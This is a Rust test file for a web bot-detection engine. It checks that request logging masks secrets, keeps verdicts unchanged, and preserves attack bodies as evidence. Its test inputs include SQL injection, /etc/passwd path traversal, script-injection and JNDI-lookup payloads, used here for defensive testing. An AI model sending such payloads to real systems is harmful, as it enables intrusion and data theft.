//! Masking never changes a verdict, and nothing secret is written.

use palisade_detect::{Engine, EngineSettings, HashSeed, Observe, SiteProfile};
use palisade_domain::{
    BodyKind, BodyPrefix, ClientKey, Fact, HeadFault, HeaderCase, HeaderList, HeaderOrder, HttpVersion,
    RequestFacts, RequestId, Resolution, ResponseFacts, Scheme, SessionId, Signature, SiteId, TenantId,
    Timestamp, Vantage, Verdict,
};
use palisade_policy::{Around, Judge, Policy};
use palisade_testkit::Mix;
use proptest::prelude::*;

use super::*;
use crate::formats::{Format, Record};
use crate::source::LINE_BYTES_MAX;

const SEED: HashSeed = HashSeed([3, 4]);

fn engine() -> Engine {
    let site = SiteProfile {
        honeypot_fields: vec!["website".to_owned()],
        trap_paths: vec!["/trap/".to_owned()],
        script_token: Some("palisade_token".to_owned()),
        ..SiteProfile::default()
    };
    Engine::new(EngineSettings { site, ..EngineSettings::new(SEED) })
}

fn judge() -> Judge {
    Judge::new(engine(), Policy::default())
}

fn written(facts: &RequestFacts<'_>, verdict: &Verdict, around: &Around, observe: Observe) -> String {
    let judgement = Judgement { id: RequestId(107), sequence: 7, verdict, around, observe };
    let line = request_line(facts, &judgement, &Masks::new(SEED));
    let line = finish(line, &ResponseFacts::default(), 9, Timestamp(99));
    assert!(line.len() < LINE_BYTES_MAX, "{} bytes", line.len());
    assert!(!line.contains('\n'));
    line
}

fn read(line: &str) -> Record {
    let record = Format::parse_any(line, None, &mut String::new()).unwrap();
    assert_eq!(record.format, Format::Palisade);
    record
}

/// Judges `facts` as they are and as they come back from a line; both judges remember what they saw before.
fn check(live: &Judge, again: &Judge, facts: &RequestFacts<'_>) -> Result<String, TestCaseError> {
    let judged = live.request(facts, Observe::Note);
    let line = written(facts, &judged.verdict, &Around::default(), Observe::Note);
    let record = read(&line);
    let headers = record.header_entries();
    let replayed = again.request(&record.facts(&headers), Observe::Note);
    prop_assert_eq!(&replayed.verdict, &judged.verdict, "{}", line);
    prop_assert_eq!(replayed.features, judged.features);
    let response = ResponseFacts { status: Fact::Known(200), ..ResponseFacts::default() };
    live.response(judged.ticket, &response, facts.time);
    again.response(replayed.ticket, &response, facts.time);
    Ok(line)
}

fn bare(time: i64) -> RequestFacts<'static> {
    let client = ClientKey::Ip("192.0.2.7".parse().unwrap());
    let mut facts = RequestFacts::bare(client, Timestamp(time), Vantage::GatewayClear);
    facts.method = Fact::Known("POST");
    facts.target = Fact::Known("/contact");
    facts.version = Fact::Known(HttpVersion::Http11);
    facts.scheme = Fact::Known(Scheme::Http);
    facts.user_agent = Fact::Known("Mozilla/5.0 (X11; Linux x86_64; rv:153.0) Gecko/20100101 Firefox/153.0");
    facts
}

#[test]
fn the_measured_mix_is_judged_alike() {
    for vantage in [Vantage::GatewayTls, Vantage::GatewayClear, Vantage::Log] {
        let (mix, live, again) = (Mix::new(vantage), judge(), judge());
        for n in 0..400 {
            check(&live, &again, &mix.facts(n)).unwrap();
        }
    }
}

#[test]
fn every_fact_comes_back() {
    let entries = [("Host", "a.example"), (":odd", "x"), ("Accept", "*/*")];
    let mut facts = bare(1_700_000_000_123_456);
    facts.client = ClientKey::Opaque("192.0.2.9");
    facts.tenant = TenantId(3);
    facts.site = SiteId(2);
    facts.resolution = Resolution::Milli;
    facts.session = Fact::Known(SessionId(u128::MAX - 5));
    facts.host = Fact::Absent;
    facts.referrer = Fact::Known("");
    facts.headers =
        Fact::Known(HeaderList { entries: &entries, order: HeaderOrder::Lost, case: HeaderCase::Wire });
    facts.body = Fact::Absent;
    facts.ja4 = Fact::Known("t13d1516h2_8daaf6152771_b186095e22b6");
    facts.fingerprint = Fact::Known("{\"canvas\":\"x\"}");
    facts.host_name = Fact::Known("crawl.example");
    facts.signature = Fact::Known(Signature::Verified("https://bot.example"));
    facts.head_fault = Fact::Known(HeadFault::Folding);
    facts.client_hidden = true;
    let around = Around { keyed_trap_hit: true, key: Some(u64::MAX), ..Around::default() };
    let verdict = judge().request(&facts, Observe::Peek).verdict;
    let record = read(&written(&facts, &verdict, &around, Observe::Peek));
    let headers = record.header_entries();
    let back = record.facts(&headers);
    assert_eq!(format!("{back:?}"), format!("{facts:?}"));
    assert_eq!((record.observe(), record.around().key), (Observe::Peek, around.key));
    assert!(record.around().keyed_trap_hit);
    let place = record.place().unwrap();
    assert_eq!((place.run, place.sequence, place.end.map(|end| end.sequence)), (100, 7, Some(9)));
    assert_eq!(record.verdict().map(|live| live.score), Some(verdict.assessment.score.value()));
}

#[test]
fn nothing_secret_is_written() {
    let secret = "hunter2horse";
    let cookie = format!("sid={secret}; {secret}");
    let bearer = format!("Bearer {secret}");
    let names = ["Cookie", "Authorization", "X-Api-Key", "X-CSRF-Token", "X-Forwarded-For", "X-Session"];
    let entries: Vec<(&str, &str)> = names
        .iter()
        .map(|name| {
            (
                *name,
                match *name {
                    "Cookie" => cookie.as_str(),
                    "Authorization" => &bearer,
                    _ => secret,
                },
            )
        })
        .collect();
    let bodies = [
        (BodyKind::Form, format!("user=ann&password={secret}&{secret}&a@{secret}=1")),
        (BodyKind::Json, format!("{{\"password\":\"{secret}\",\"n\":[\"{secret}\", {secret}]}}")),
        (
            BodyKind::Multipart,
            format!(
                "--X\r\nContent-Disposition: form-data; name=\"p\"; filename=\"{secret}\"\r\nX: {secret}\r\n\r\n{secret}\r\n--X--"
            ),
        ),
        (BodyKind::Text, secret.to_owned()),
    ];
    for (kind, body) in bodies {
        let mut facts = bare(1_700_000_000_000_001);
        facts.headers =
            Fact::Known(HeaderList { entries: &entries, order: HeaderOrder::Wire, case: HeaderCase::Wire });
        facts.body = Fact::Known(BodyPrefix { kind, bytes: body.as_bytes(), complete: true });
        let line = check(&judge(), &judge(), &facts).unwrap();
        assert!(!line.contains(secret), "{line}");
        assert!(!line.contains("ann"), "{line}");
    }
}

#[test]
fn an_attack_is_kept_as_evidence() {
    for (kind, body) in [
        (BodyKind::Form, &b"a=1' union select password from users -- &b=2"[..]),
        (BodyKind::Form, b"a=%c0%ae%c0%ae/etc/passwd&b=\xff\xfe&c=<script>alert(1)</script>"),
    ] {
        let mut facts = bare(1_700_000_000_000_001);
        facts.body = Fact::Known(BodyPrefix { kind, bytes: body, complete: false });
        let record = read(&check(&judge(), &judge(), &facts).unwrap());
        let back = record.facts(&[]).body.known().map(|body| (body.bytes.to_vec(), body.complete));
        assert_eq!(back, Some((body.to_vec(), false)));
    }
}

#[test]
fn a_line_keeps_its_bound_and_says_so() {
    let long = "\u{1}".repeat(60_000);
    let names: Vec<String> = (0..200).map(|n| format!("x-{n}")).collect();
    let value = "a".repeat(300);
    let entries: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), value.as_str())).collect();
    let mut facts = bare(5);
    let small =
        written(&facts, &judge().request(&facts, Observe::Note).verdict, &Around::default(), Observe::Note);
    assert!(!small.contains("\"cut\""));
    facts.target = Fact::Known(&long);
    facts.referrer = Fact::Known(&long);
    facts.fingerprint = Fact::Known(&long);
    facts.headers =
        Fact::Known(HeaderList { entries: &entries, order: HeaderOrder::Wire, case: HeaderCase::Wire });
    let attack = format!("a=<script>alert(1)</script>&b={}", "\u{1}".repeat(16_000));
    facts.body = Fact::Known(BodyPrefix { kind: BodyKind::Form, bytes: attack.as_bytes(), complete: false });
    let verdict = judge().request(&facts, Observe::Note).verdict;
    let line = written(&facts, &verdict, &Around::default(), Observe::Note);
    assert!(line.contains("\"cut\":true"));
    let record = read(&line);
    assert_eq!(record.facts(&[]).headers, Fact::Unseen);
}

fn body() -> impl Strategy<Value = (BodyKind, Vec<u8>)> {
    let word = "(website|palisade_token|cmd|file|url|q|name|[a-z\"<']{0,6})";
    let value = "(|\\+| |[a-zA-Z0-9 ]{0,9}|ls|id|1 or 1=1|<b>x</b>|../../etc/passwd|http://a.example/x|[ -~]{0,12}|é)";
    let pair = (word, value);
    let pairs = prop::collection::vec(pair, 0..5);
    let form = pairs.clone().prop_map(|pairs| {
        let text = pairs.iter().map(|(name, value)| format!("{name}={value}")).collect::<Vec<_>>().join("&");
        (BodyKind::Form, text.into_bytes())
    });
    let json = pairs.clone().prop_map(|pairs| {
        let all: serde_json::Map<String, serde_json::Value> =
            pairs.into_iter().map(|(name, value)| (name, value.into())).collect();
        (BodyKind::Json, serde_json::Value::Object(all).to_string().into_bytes())
    });
    let multipart = pairs.prop_map(|pairs| {
        let part = |(name, value): &(String, String)| {
            let name = name.replace('"', "");
            format!("--XX\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
        };
        (
            BodyKind::Multipart,
            format!("{}--XX--\r\n", pairs.iter().map(part).collect::<String>()).into_bytes(),
        )
    });
    let any_kind = prop::sample::select(vec![BodyKind::Form, BodyKind::Multipart, BodyKind::Text]);
    let raw = (any_kind, "[ -~]{0,40}").prop_map(|(kind, text)| (kind, text.into_bytes()));
    prop_oneof![form, json, multipart, raw]
}

fn header() -> impl Strategy<Value = (String, String)> {
    let name = prop::sample::select(vec![
        "Cookie",
        "Authorization",
        "X-Api-Key",
        "X-Forwarded-For",
        "Accept",
        "Host",
        "Via",
        "X-Other",
        "Referer",
        "palisade_token",
        "Sec-Fetch-Site",
        "accept-language",
        "Connection",
    ]);
    let value = "(|a=b; c=d|Bearer [a-z]{4}|\\$\\{jndi:ldap://198.51.100.7/a\\}|<script>alert\\(1\\)</script>|[ -~]{0,20})";
    (name.prop_map(str::to_owned), value)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]
    #[test]
    fn masking_never_changes_a_verdict(
        requests in prop::collection::vec((body(), prop::collection::vec(header(), 0..6), 1usize..7, any::<bool>()), 1..4),
    ) {
        let (live, again) = (judge(), judge());
        let mut time = 1_700_000_000_000_000;
        for ((kind, bytes), headers, repeats, complete) in &requests {
            let entries: Vec<(&str, &str)> = headers.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect();
            for n in 0..*repeats {
                time += 1_234_567;
                let mut facts = bare(time);
                facts.headers = Fact::Known(HeaderList {
                    entries: &entries,
                    order: HeaderOrder::Wire,
                    case: HeaderCase::Wire,
                });
                facts.body = Fact::Known(BodyPrefix { kind: *kind, bytes, complete: *complete });
                // The same body comes with an attack elsewhere, too.
                if n == 3 {
                    facts.target = Fact::Known("/contact?q=1'+union+select+password+from+users--");
                }
                check(&live, &again, &facts)?;
            }
        }
    }

    #[test]
    fn any_facts_make_a_line_that_reads_back(
        target: String, agent: String, name: String, value: String, bytes: Vec<u8>, time: i64,
    ) {
        let entries = [(name.as_str(), value.as_str())];
        let mut facts = bare(time);
        facts.target = Fact::Known(&target);
        facts.user_agent = Fact::Known(&agent);
        facts.headers = Fact::Known(HeaderList {
            entries: &entries,
            order: HeaderOrder::Wire,
            case: HeaderCase::Lost,
        });
        facts.body = Fact::Known(BodyPrefix { kind: BodyKind::Text, bytes: &bytes, complete: true });
        let verdict = judge().request(&facts, Observe::Peek).verdict;
        let record = read(&written(&facts, &verdict, &Around::default(), Observe::Note));
        let headers = record.header_entries();
        let back = record.facts(&headers);
        prop_assert_eq!((back.time, back.target, back.user_agent), (facts.time, facts.target, facts.user_agent));
        prop_assert_eq!(back.headers.known().map(|list| list.entries[0].0), Some(name.as_str()));
    }
}
